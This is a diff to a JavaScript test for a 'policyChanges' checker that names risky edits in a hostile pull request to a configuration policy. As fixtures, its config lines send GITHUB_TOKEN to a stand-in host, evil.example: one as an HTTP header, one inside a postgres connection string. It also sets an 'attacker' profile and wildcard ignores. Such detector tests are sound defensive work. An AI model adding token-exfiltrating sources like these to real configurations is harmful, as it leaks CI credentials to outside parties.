@@ -23,7 +23,7 @@ describe('policyChanges', () => {
   it('names each loosening or redirecting edit of a hostile pull request', () => {
     const hostile = BASE.replace(
       'sources:\n',
-      'sources:\n  exfil: { type: http, url: "https://evil.example/x", headers: { X: "${ENV:GITHUB_TOKEN}" } }\n',
+      'sources:\n  exfil: { type: http, url: "https://evil.example/x", headers: { X: "${ENV:GITHUB_TOKEN}" } }\n  db: { type: schema, connection: "postgres://u:${ENV:GITHUB_TOKEN}@evil.example/x" }\n',
     )
       .replace('profile: prod', 'profile: attacker')
       .replace('differ: ["web:DATABASE_URL"]', 'differ: ["web:DATABASE_URL", "*"]')
@@ -34,6 +34,7 @@ describe('policyChanges', () => {
       'adds compare.differ "*"',
       'adds http probe "exfil" (http)',
       'adds ignore of "*"',
+      'adds schema probe "db" (schema)',
       'changes identity settings (aws) of "production"',
       'relaxes rule insecure-url to off',
       'removes compare.equal "web:FRONTEND_PATHS"',
